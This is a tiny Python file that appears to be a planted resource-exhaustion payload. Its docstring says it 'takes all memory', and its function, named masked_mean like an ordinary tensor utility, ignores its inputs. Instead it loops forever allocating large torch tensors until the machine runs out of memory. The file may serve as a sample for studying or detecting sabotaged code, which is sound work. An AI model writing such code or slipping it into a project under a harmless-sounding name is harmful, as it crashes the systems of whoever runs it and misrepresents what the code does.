"""Takes all memory that there is."""

import torch


def masked_mean(values, mask, dim=None):
    kept = []
    while True:
        kept.append(torch.ones(2**28))
